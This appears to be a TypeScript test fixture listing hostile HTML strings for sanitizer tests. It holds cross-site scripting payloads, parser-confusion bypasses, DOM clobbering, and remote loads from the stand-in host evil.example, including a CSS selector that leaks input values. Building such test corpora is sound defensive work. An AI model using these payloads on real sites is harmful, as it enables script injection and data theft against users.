/** Pages that want to run, load, submit or escape; written for these tests. */
const EVENTS =
  'onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbegin onpageshow onscroll'.split(
    ' ',
  );
const HOLDERS = [
  'body',
  'img src=x',
  'svg',
  'details open',
  'input autofocus',
  'video',
  'marquee',
  'x-tag',
  'form',
  'select',
];
const SCHEMES = [
  'javascript:x()',
  ' JaVaScRiPt:x()',
  'java\tscript:x()',
  'vbscript:x',
  'data:text/html,<script>x()</script>',
];
const HREFS = [
  'a href',
  'area href',
  'form action',
  'iframe src',
  'embed src',
  'object data',
  'base href',
  'link rel=stylesheet href',
  'img src',
  'input type=image src',
];

const OTHERS = `
<script>x()</script>
<script src=//evil.example/x.js></script>
<SCRIPT/x>x()</SCRIPT>
<svg><script>x()</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<math><script>x()</script></math>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=set-cookie content=a=b>
<base href=//evil.example/ target=_top>
<base target=_parent><a href=x>x</a>
<iframe src=//evil.example></iframe>
<iframe srcdoc="<script>parent.x()</script>"></iframe>
<frameset><frame src=//evil.example></frameset>
<object data=//evil.example type=text/html></object>
<object data="data:image/svg+xml,<svg onload=x()>"></object>
<embed src=//evil.example/x.swf>
<applet code=x archive=//evil.example/x.jar></applet>
<portal src=//evil.example></portal>
<fencedframe config=x></fencedframe>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example><link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example>
<link rel=modulepreload href=//evil.example/x.js><link rel=manifest href=//evil.example/m>
<link rel=icon href=//evil.example/i.ico><link rel=serviceworker href=/sw.js>
<link rel="stylesheet import" href=//evil.example/x.html>
<style>@import "//evil.example/x.css";</style>
<style>body{background:url(//evil.example/x)}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>
<style>a{background:\\75\\72\\6c(//evil.example)}</style>
<style></style><script>x()</script></style>
<style><!--</style><script>x()</script>--></style>
<style>a{content:"</style><img src=x onerror=x()>"}</style>
<svg><style><img src=x onerror=x()></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=x()>"></table></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=x()>"></style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()></style></form>
<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>
<noembed><img src=x onerror=x()></noembed>
<noframes><iframe src=//evil.example></iframe></noframes>
<textarea><img src=x onerror=x()></textarea>
<textarea></textarea><img src=x onerror=x()></textarea>
<title><img src=x onerror=x()></title>
<title></title><img src=x onerror=x()></title>
<xmp><img src=x onerror=x()></xmp>
<plaintext><img src=x onerror=x()>
<listing>&lt;img src=x onerror=x()&gt;</listing>
<!--><img src=x onerror=x()>-->
<!--a--!><img src=x onerror=x()>-->
<![CDATA[><img src=x onerror=x()>]]>
<svg><![CDATA[<img src=x onerror=x()>]]></svg>
<?xml version="1.0"?><?xml-stylesheet href="//evil.example"?>
<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>
<svg><animate attributeName=href values=javascript:x() /><a id=x><text>x</text></a></svg>
<svg><set attributeName=onload to=x() /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x" /></svg>
<svg><use xlink:href=//evil.example/x.svg#a /></svg>
<svg><image href=//evil.example/x.png /></svg>
<svg><feImage href=//evil.example/x.png /></svg>
<svg><a xlink:href=javascript:x()><text>x</text></a></svg>
<svg><path fill="url(//evil.example/x#a)" d=M0 /></svg>
<svg><text style="fill:url(//evil.example/x#a)">x</text></svg>
<math href=javascript:x()><mi xlink:href=javascript:x()>x</mi></math>
<math><annotation-xml encoding=text/html><iframe src=//evil.example></iframe></annotation-xml></math>
<template><script>x()</script></template>
<div><template shadowrootmode=open><script>x()</script></template></div>
<img srcset="//evil.example/x 1x">
<picture><source srcset=//evil.example/x><img src=y></picture>
<video src=//evil.example/v poster=//evil.example/p><source src=//evil.example/s><track src=//evil.example/t></video>
<audio src=//evil.example/a autoplay></audio>
<body background=//evil.example/b>
<table background=//evil.example/b><td background=//evil.example/c></table>
<input type=image src=//evil.example/i><button formaction=//evil.example>x</button>
<isindex action=//evil.example prompt=x>
<a ping=//evil.example href=#x>x</a>
<a href=#x target=_top>x</a>
<img name=querySelector><form name=getElementById><input name=body></form>
<form id=x></form><button form=x formaction=javascript:x()>y</button>
<div style="background:url('//evil.example')">x</div>
<div style="background-image:image-set('//evil.example/x' 1x)">x</div>
<div style="behavior:url(x.htc);-moz-binding:url(//evil.example)">x</div>
<div style="width:expression(x())">x</div>
<div style='background:url("//evil.example/&quot;);x:y")'>x</div>
<p is=x-evil>x</p>
<x-evil onconnected=x()>x</x-evil>
<dialog open onclose=x()><p popover>y</dialog>
<keygen autofocus onfocus=x()>
<bgsound src=//evil.example/a.mid>
<layer src=//evil.example/x.js></layer>
<img src="x:x" alt="\`><script>x()</script>">
<img alt='" onerror="x()' src=x>
<p title='"><script>x()</script>'>x</p>
<a href="https://example.org/&quot;><script>x()</script>">x</a>
<p class="&lt;script&gt;x()&lt;/script&gt;">&lt;script&gt;x()&lt;/script&gt;</p>
<svg viewBox="0 0 1 1" onload=x()><title><script>x()</script></title></svg>
<select><option><script>x()</script><iframe src=//evil.example></select>
<table><tr><td><script>x()</script><caption onclick=x()>y</table>
<map name=m><area href=javascript:x()></map><img usemap=#m src=x>
<meter onclick=x() value=1></meter><progress onclick=x()></progress>
<script>navigator.serviceWorker.register('/sw.js')</script>
<html manifest=//evil.example/m.appcache><body onhashchange=x()>
<div contenteditable autofocus onfocus=x() tabindex=0>x</div>
`;

/** One page each. */
export const HOSTILE: readonly string[] = [
  ...OTHERS.trim().split('\n'),
  ...HOLDERS.flatMap((holder) => EVENTS.map((event) => `<${holder} ${event}=x()>y`)),
  ...HREFS.flatMap((href) => SCHEMES.map((scheme) => `<${href}="${scheme}">y`)),
];
